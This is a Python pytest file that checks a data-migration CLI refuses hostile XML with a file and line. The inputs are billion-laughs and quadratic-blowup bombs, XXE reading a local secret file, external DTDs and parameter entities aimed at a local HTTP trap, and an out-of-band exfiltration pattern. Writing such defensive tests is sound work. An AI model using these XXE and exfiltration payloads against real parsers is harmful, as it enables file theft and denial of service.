"""Entities and DTDs, through the real CLI: refused with file and line, never expanded, never fetched.

Proves, for each of billion laughs, quadratic blowup, XXE (local file and http), external DTDs
(SYSTEM and PUBLIC, http and file), parameter entities (http, file, internal) and an entity in an
attribute: `migrator plan` exits 1 with one stderr line `Error: FILE:LINE: … why`, no traceback, in
bounded time and memory; the secret file's marker appears nowhere in the output; the live HTTP trap
on 127.0.0.1 receives zero requests; the child makes no Python-level network call. Constructs that
merely *point* elsewhere without entities (XInclude, schemaLocation, a stylesheet PI) are inert:
nothing is fetched or included, and the document is planned (or its record reported) as plain data.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from tests.hostile.conftest import Secret
from tests.hostile.harness import Cli, HttpTrap, assert_refused, nonzero_summary

ENTITY_WHY = r"entit|DOCTYPE|DTD"
V1_BODY = (
    '<clients type="array">\n  <client>\n    <id type="integer">1</id>\n    <name>{name}</name>\n'
    "  </client>\n</clients>\n"
)
FB_BODY = (
    '<response xmlns="http://www.freshbooks.com/api/" status="ok">\n'
    '  <clients page="1" per_page="25" pages="1" total="1">\n'
    "    <client><client_id>1</client_id><organization>{name}</organization></client>\n"
    "  </clients>\n</response>\n"
)


def _doc(doctype: str, *, name: str, body: str = V1_BODY, root: str = "clients") -> str:
    # The DOCTYPE is on line 2, after the XML declaration.
    return f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE {root} {doctype}>\n' + body.format(name=name)


@pytest.mark.parametrize(
    "case",
    [
        pytest.param("billion-laughs.xml", id="billion-laughs"),
        pytest.param("quadratic-blowup.xml", id="quadratic-blowup"),
    ],
)
def test_entity_expansion_bombs_are_refused_before_expansion(cli: Cli, corpus: Path, tmp_path: Path, case: str) -> None:
    shutil.copy(corpus / case, tmp_path / case)
    result = cli.plan(case, cwd=tmp_path)
    # Where the refusal lands depends on libxml2's release: ours at the DOCTYPE (line 2), or its own
    # amplification limit at the first reference in the body. Either way: refused, and for that reason.
    line = assert_refused(result, case, why=ENTITY_WHY)
    assert 1 <= line <= len((corpus / case).read_bytes().splitlines())
    assert "lollol" not in result.output and "AAAAAAAA" not in result.output  # nothing expanded


def _hostile_documents(secret: Secret, trap: HttpTrap) -> dict[str, tuple[str, str]]:
    """id -> (document text, why). Every URL points at the secret file or at the live trap."""
    file_url = secret.path.as_uri()
    return {
        "xxe-local-file": (_doc(f'[<!ENTITY x SYSTEM "{file_url}">]', name="&x;"), ENTITY_WHY),
        "xxe-local-file-plain-path": (_doc(f'[<!ENTITY x SYSTEM "{secret.path}">]', name="&x;"), ENTITY_WHY),
        "xxe-local-file-freshbooks": (
            _doc(f'[<!ENTITY x SYSTEM "{file_url}">]', name="&x;", body=FB_BODY, root="response"),
            ENTITY_WHY,
        ),
        "xxe-http": (_doc(f'[<!ENTITY x SYSTEM "{trap.url}/xxe.txt">]', name="&x;"), ENTITY_WHY),
        "external-dtd-http-system": (_doc(f'SYSTEM "{trap.url}/clients.dtd"', name="Acme"), ENTITY_WHY),
        "external-dtd-http-public": (
            _doc(f'PUBLIC "-//Evil//DTD Clients//EN" "{trap.url}/public.dtd"', name="&trapped;"),
            ENTITY_WHY,
        ),
        "external-dtd-local-file": (_doc(f'SYSTEM "{file_url}"', name="Acme"), ENTITY_WHY),
        "parameter-entity-http": (
            _doc(f'[<!ENTITY % p SYSTEM "{trap.url}/p.dtd"> %p;]', name="&trapped;"),
            ENTITY_WHY,
        ),
        "parameter-entity-local-file": (_doc(f'[<!ENTITY % p SYSTEM "{file_url}"> %p;]', name="Acme"), ENTITY_WHY),
        "parameter-entity-internal": (
            _doc("[<!ENTITY % p '<!ENTITY inner \"expanded\">'> %p;]", name="&inner;"),
            ENTITY_WHY,
        ),
        "parameter-entity-exfiltration": (
            # The out-of-band XXE: read the file into %data; and let a DTD from the trap send it on.
            _doc(
                f'[<!ENTITY % data SYSTEM "{file_url}"> <!ENTITY % dtd SYSTEM "{trap.url}/send.dtd"> %dtd;]',
                name="Acme",
            ),
            ENTITY_WHY,
        ),
        "entity-in-attribute": (
            _doc(
                '[<!ENTITY x "expanded">]',
                name="Acme",
                body='<clients type="array" note="&x;">\n  <client><id>1</id><name>{name}</name></client>\n'
                "</clients>\n",
            ),
            ENTITY_WHY,
        ),
    }


CASES = [
    "xxe-local-file",
    "xxe-local-file-plain-path",
    "xxe-local-file-freshbooks",
    "xxe-http",
    "external-dtd-http-system",
    "external-dtd-http-public",
    "external-dtd-local-file",
    "parameter-entity-http",
    "parameter-entity-local-file",
    "parameter-entity-internal",
    "parameter-entity-exfiltration",
    "entity-in-attribute",
]


@pytest.mark.parametrize("case", [pytest.param(case, id=case) for case in CASES])
def test_entities_and_dtds_are_refused_never_read_never_fetched(
    cli: Cli, tmp_path: Path, secret: Secret, trap: HttpTrap, case: str
) -> None:
    text, why = _hostile_documents(secret, trap)[case]
    (tmp_path / "hostile.xml").write_text(text, encoding="utf-8")
    result = cli.plan("hostile.xml", cwd=tmp_path)
    assert_refused(result, "hostile.xml", why=why, line=(1, 2))
    assert secret.marker not in result.output and "root:x:0:0" not in result.output
    assert "FETCHED-FROM-THE-NETWORK" not in result.output and "expanded" not in result.output
    # `trap` asserts zero requests when the test ends.


def test_a_doctype_after_a_long_leading_comment_is_still_refused(
    cli: Cli, tmp_path: Path, secret: Secret, trap: HttpTrap
) -> None:
    """A DOCTYPE placed past any head-sniffing window (here 100 KiB in) must still be caught."""
    text = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        + "<!--"
        + "padding " * 12_800
        + "-->\n"
        + f'<!DOCTYPE clients [<!ENTITY x SYSTEM "{secret.path.as_uri()}"><!ENTITY y SYSTEM "{trap.url}/y">]>\n'
        + V1_BODY.format(name="&x;&y;")
    )
    (tmp_path / "late-doctype.xml").write_text(text, encoding="utf-8")
    result = cli.plan("late-doctype.xml", cwd=tmp_path)
    assert_refused(result, "late-doctype.xml", why=r".")  # refused, for whatever stated reason
    assert secret.marker not in result.output and "FETCHED-FROM-THE-NETWORK" not in result.output


def test_xinclude_is_never_processed(cli: Cli, tmp_path: Path, secret: Secret, trap: HttpTrap) -> None:
    """An `xi:include` is an ordinary (foreign) element: nothing is read, the name is not the file."""
    body = (
        '<clients type="array" xmlns:xi="http://www.w3.org/2001/XInclude">\n'
        "  <client>\n"
        '    <id type="integer">1</id>\n'
        f'    <name><xi:include href="{secret.path.as_uri()}" parse="text"/></name>\n'
        "  </client>\n"
        "  <client>\n"
        '    <id type="integer">2</id>\n'
        f'    <name>Plain</name><xi:include href="{trap.url}/inc.xml"/>\n'
        "  </client>\n"
        "</clients>\n"
    )
    (tmp_path / "xinclude.xml").write_text('<?xml version="1.0"?>\n' + body, encoding="utf-8")
    result = cli.plan("xinclude.xml", cwd=tmp_path, extra=("--keep-going",))
    assert secret.marker not in result.output
    document = result.json()
    by_id = {change["source_id"]: change for change in document["changes"] if change["kind"] == "clients"}
    assert by_id["2"]["action"] == "create" and by_id["2"]["payload"]["name"] == "Plain"
    # Client 1's name is an element, not text: it is reported invalid, with its file and line.
    assert by_id["1"]["action"] == "invalid"
    assert [(e["file"], e["line"]) for e in document["errors"]] == [("xinclude.xml", 3)]


def test_schema_locations_and_stylesheet_pis_are_inert(cli: Cli, tmp_path: Path, trap: HttpTrap) -> None:
    """Pointers that a validating or styling parser would follow are ignored: the data plans normally."""
    text = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<?xml-stylesheet type="text/xsl" href="{trap.url}/style.xsl"?>\n'
        '<clients type="array" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
        f' xsi:noNamespaceSchemaLocation="{trap.url}/clients.xsd"'
        f' xsi:schemaLocation="urn:x {trap.url}/x.xsd">\n'
        '  <client>\n    <id type="integer">1</id>\n    <name>Acme</name>\n  </client>\n</clients>\n'
    )
    (tmp_path / "pointers.xml").write_text(text, encoding="utf-8")
    result = cli.plan("pointers.xml", cwd=tmp_path)
    assert result.returncode == 2, result.describe()
    document = result.json()
    assert nonzero_summary(document) == {"clients": {"create": 1}}
    assert document["changes"][0]["payload"] == {"name": "Acme"}
